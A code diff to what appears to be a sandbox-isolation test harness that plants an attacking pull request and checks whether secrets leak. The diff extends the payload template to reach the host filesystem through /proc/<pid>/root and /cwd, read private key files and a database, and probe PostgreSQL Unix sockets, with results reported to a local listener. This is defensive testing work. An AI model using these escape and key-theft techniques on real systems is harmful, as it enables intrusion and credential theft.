@@ -33,11 +33,23 @@ import git
 
 from runners.example_repo import make_example_repo
 
-__all__ = ["ATTACK", "CLAIMS", "NOT_SECRET", "Listener", "attacking_pr", "main", "stolen"]
+__all__ = [
+    "ATTACK",
+    "CLAIMS",
+    "NOT_SECRET",
+    "PG_SOCKETS",
+    "Listener",
+    "attacking_pr",
+    "main",
+    "stolen",
+]
 
 NOT_SECRET = ("LEDGER_RUN_ID", "LEDGER_FORK_SERVERS")
 """The ledger's variables a sandboxed process sees: a random marker and the run's own
 fork-server sockets, no secret (docs/security.md)."""
+
+PG_SOCKETS = ("/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432")
+"""Where PostgreSQL's Unix socket is on Debian hosts: the attack tries to connect."""
 
 CLAIMS = ("regression.24view-nograd", "cleanup.all-released", "numerics.gradient-compare")
 
@@ -53,11 +65,21 @@ _LOOT = {loot!r}
 _DB = {db!r}
 _OUT = {out!r}
 _PORT = {port}
+_SOCKETS = {sockets!r}
 
 
 def _steal(where):
     loot = []
-    for pattern in _LOOT:
+    # The host's root through any process this one can see (its bubblewrap parent,
+    # the qualifier): /proc/<pid>/root and /proc/<pid>/cwd.
+    walked = [
+        "/proc/" + pid + via + pattern
+        for pid in _os.listdir("/proc")
+        if pid.isdigit()
+        for via in ("/root", "/cwd/..")
+        for pattern in _LOOT
+    ]
+    for pattern in list(_LOOT) + walked:
         for f in _glob.glob(pattern):
             try:
                 with open(f, "rb") as fh:
@@ -71,6 +93,13 @@ def _steal(where):
             loot.append("database-writable")
     except OSError:
         pass
+    for path in _SOCKETS:  # the host's Unix sockets: PostgreSQL's, one of the qualifier's
+        try:
+            with _socket.socket(_socket.AF_UNIX) as u:
+                u.connect(path)
+                loot.append("unix-connected:" + path)
+        except OSError:
+            pass
     text = "|".join(loot)
     tag = where + ":" + _os.path.basename(_sys.argv[0] or "python") + ":" + str(_os.getpid())
     try:
@@ -189,7 +218,11 @@ def main(argv: list[str] | None = None) -> int:
     repo = make_example_repo(work / "repo").path
     listener = Listener()
     loot = [f"{keys}/*.pem", str(db), f"{Path.home()}/.config/ledger/keys/*.pem"]
-    attacking_pr(repo, ATTACK.format(loot=loot, db=str(db), out=str(exfil), port=listener.port))
+    sockets = [p for p in PG_SOCKETS if os.path.exists(p)]
+    attack = ATTACK.format(
+        loot=loot, db=str(db), out=str(exfil), port=listener.port, sockets=sockets
+    )
+    attacking_pr(repo, attack)
     needles = [p.read_text().splitlines()[1] for p in sorted(keys.glob("*.pem"))]
     needles += [token, "SQLite format 3"]
     claims = [x for c in CLAIMS for x in ("--claim", c)]
